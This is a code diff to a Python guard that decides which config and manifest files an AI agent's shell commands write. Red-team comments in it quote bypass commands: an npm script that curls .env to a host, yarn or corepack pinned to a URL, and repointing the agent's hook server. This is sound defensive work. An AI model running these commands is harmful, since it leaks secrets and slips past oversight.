@@ -276,6 +276,9 @@ _CONFIG_WRITERS: dict[str, tuple[frozenset[str], tuple[str, ...]]] = {
     ),
     "mrm": (frozenset({"*"}), (".husky", ".lintstagedrc", ".git")),
     "husky-init": (frozenset({"*"}), (".husky", ".git")),
+    # red team: the package manager corepack pins in the manifest (`corepack use yarn@URL`), run by every `yarn`
+    # (`install -g`, `prepare --activate`: the default every later `yarn` or `pnpm` outside a pin runs)
+    "corepack": (frozenset({"use", "up", "install", "prepare"}), ("package.json",)),
 }
 # red team, R3.7: Brabo's own client writes the hook into an agent's settings -- `brabo hook install claude-code
 # --url http://elsewhere --other allow` points the agent's hook at another server, or lets what no rule matches
@@ -326,9 +329,36 @@ def _pulled(verb: str, view: tuple[str, ...]) -> list[Target]:
 
 
 # The writers read by their own function, by program.
+def _composer_config_at(view: tuple[str, ...]) -> int:
+    """Where composer's ``config`` stands (Symfony's console takes any unambiguous abbreviation of a command, in
+    any case: ``conf``, ``CON``; ``co`` is also ``completion``), -1 when the line is not it."""
+    for k, w in enumerate(view[1:], 1):
+        if len(w) >= 3 and w[:1] != "-" and "config".startswith(w.lower()):
+            return k
+    return -1
+
+
+def _composer_config(verb: str, view: tuple[str, ...]) -> list[Target]:
+    """``composer config KEY VALUE`` (``scripts.x``, ``allow-plugins.*``, ``repositories.*`` ...), ``--unset``,
+    ``--editor``, ``--json``/``--merge``: composer.json, whose scripts and plugins composer runs (the global
+    file counts too: fail closed). ``--list`` and ``config KEY`` read."""
+    at = _composer_config_at(view)
+    if at < 0:
+        return []
+    rest = view[at + 1 :]
+    operands = [w for w in rest if w[:1] != "-"]
+    if (
+        any(w in ("--unset", "-e", "--editor", "--json", "--merge", "--append") for w in rest)
+        or len(operands) > 1
+    ):
+        return [("composer.json", NAMED)]
+    return []
+
+
 _OWN_WRITERS: dict[str, Callable[[str, tuple[str, ...]], list[Target]]] = {
     **dict.fromkeys(_PULLERS, _pulled),
     "brabo": _brabo_hook_install,
+    "composer": _composer_config,
 }
 
 
@@ -2031,6 +2061,70 @@ def _config_act(rest: tuple[str, ...], acts: frozenset[str], names: frozenset[st
     return False
 
 
+# red team (R4.9, a file written then run: permissions.commands.runs_a_written_file): a package manager's own
+# setter edits the manifest its runner obeys -- `npm pkg set scripts.test='curl -d @.env x' && npm test`, `bun
+# pm pkg set ...`, `composer config scripts.x ... && composer x`, `corepack use yarn@URL`, `yarn set version
+# URL` (the yarn every later `yarn` runs), `mise tasks add t -- CMD`. A key that cannot make a tool run code
+# (`npm pkg set version=1.2.3`, the package's name, description, author ...) writes nothing a runner obeys;
+# any other key (`scripts.*`, `bin`, `main`, `dependencies`, `workspaces`, `packageManager`, `overrides`,
+# `config` ...), a key read from JSON, `pkg delete|fix`: the manifest.
+_MANIFEST_INERT = frozenset(
+    "name version description keywords author license homepage bugs repository contributors private funding".split()
+)
+_PKG_EDITS = frozenset({"set", "delete", "fix"})
+# (may_write's filter: the words without which _manifest_targets finds nothing; npm's abbreviations of set-script)
+_MANIFEST_WORDS = frozenset({"pkg", "pk", "plugin", "policies"} | {"set-script"[:n] for n in range(5, 11)})
+
+
+def _manifest_key_runs(word: str) -> bool:
+    """A ``pkg set|delete`` key (``scripts.test=x``, ``scripts[test]``, ``version=1``) that may make code run."""
+    key = word.partition("=")[0].strip("'\"")
+    top = key.split(".", 1)[0].split("[", 1)[0]
+    return top not in _MANIFEST_INERT
+
+
+def _pkg_edit(rest: tuple[str, ...]) -> bool:
+    """npm's (pnpm's, bun pm's) ``pkg set|delete|fix`` among ``rest`` (the words after ``pkg``) with a key that
+    may make code run (npm takes a unique abbreviation of a command: ``pk``)."""
+    for k, w in enumerate(rest):
+        if w in _PKG_EDITS:
+            keys = [x for x in rest[k + 1 :] if x[:1] != "-"]
+            return w == "fix" or not keys or any(_manifest_key_runs(x) for x in keys)
+    return False
+
+
+def _manifest_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
+    """What a package manager's own setter writes into the manifest its runner obeys (above)."""
+    words = view[1:]
+    for k, w in enumerate(words):
+        if w[:1] == "-":
+            continue
+        if w in ("pkg", "pk") and (verb != "bun" or words[k - 1 : k] == ("pm",)):
+            return [("package.json", NAMED)] if _pkg_edit(words[k + 1 :]) else []
+        if verb == "npm" and w.startswith("set-s") and "set-script".startswith(w):
+            return [("package.json", NAMED)]
+        if verb == "yarn" and (
+            words[k : k + 2] == ("set", "version") or words[k : k + 2] == ("policies", "set-version")
+        ):
+            return [(".yarnrc.yml", NAMED), (".yarnrc", NAMED)]
+        if verb == "yarn" and w == "plugin" and words[k + 1 : k + 2] in (("import",), ("add",)):
+            return [(".yarnrc.yml", NAMED)]
+        if verb == "bun" and w == "pm":
+            continue
+        if k == 0 or words[k - 1][:1] != "-" or "=" in words[k - 1]:
+            return []  # another subcommand (a word after an option may be its value: read on)
+    return []
+
+
+def _config_writer_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
+    """The files of :data:`_CONFIG_WRITERS` a view writes: its subcommand is one of the row's."""
+    subs, files = _CONFIG_WRITERS[verb]
+    sub = view[1] if len(view) > 1 else ""
+    if verb == "mise" and sub in ("tasks", "task", "t") and view[2:3] in (("add",), ("edit",)):
+        return [(f, NAMED) for f in files]  # red team: a task written, run by `mise run`
+    return [(f, NAMED) for f in files] if sub in subs or "*" in subs else []
+
+
 def _config_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
     """What ``targets`` answers for the programs that write their own configuration (package managers, agent
     CLIs, direnv, git hooks managers), which decides what runs later (R3.7)."""
@@ -2039,7 +2133,7 @@ def _config_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
             return [(_PKG_CONFIG[verb], NAMED)]
         if verb == "npm" and "set" in _operands(view)[:1]:
             return [(".npmrc", NAMED)]
-        return []
+        return _manifest_targets(verb, view)
     if verb in _PIP or (
         verb.startswith(_PYTHONS_PREFIX) and len(view) > 3 and view[1] == "-m" and view[2] in _PIP
     ):
@@ -2070,9 +2164,7 @@ def _config_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
     if verb in _CLIENT_CONFIG:
         return _client_config(_CLIENT_CONFIG[verb], view)
     if verb in _CONFIG_WRITERS:
-        subs, files = _CONFIG_WRITERS[verb]
-        sub = view[1] if len(view) > 1 else ""
-        return [(f, NAMED) for f in files] if sub in subs or "*" in subs else []
+        return _config_writer_targets(verb, view)
     own = _OWN_WRITERS.get(verb)
     if own is not None:
         return own(verb, view)
@@ -2129,7 +2221,7 @@ def may_write(view: tuple[str, ...]) -> bool:
             or (verb in _FORMATTERS and bool(_formatted(verb, view)))
         )
     if verb in _SCAFFOLD_ONLY:
-        return bool(_scaffolded(verb, view))
+        return bool(_scaffolded(verb, view)) or (verb == "composer" and _composer_config_at(view) > 0)
     if verb == "git":
         # (red team: `-o` glued to its value or ending a cluster, `git archive -o.husky/x`, `-vo.envrc`)
         return not _GIT_WRITING.isdisjoint(view) or _GIT_O(" " + " ".join(view[1:])) is not None
@@ -2139,6 +2231,7 @@ def may_write(view: tuple[str, ...]) -> bool:
         return (
             "config" in view
             or "set" in view
+            or not _MANIFEST_WORDS.isdisjoint(view)
             or (len(view) > 1 and view[1] in _AGENT_CONFIG_SUBCOMMANDS)
             or (verb in _PACKAGE_DIRS and any(w.startswith(_PACKAGE_DIR_STARTS) for w in view))
             or (verb in _PIP and bool(_unabbreviated(verb, view)))  # (`pip install --targ DIR`)
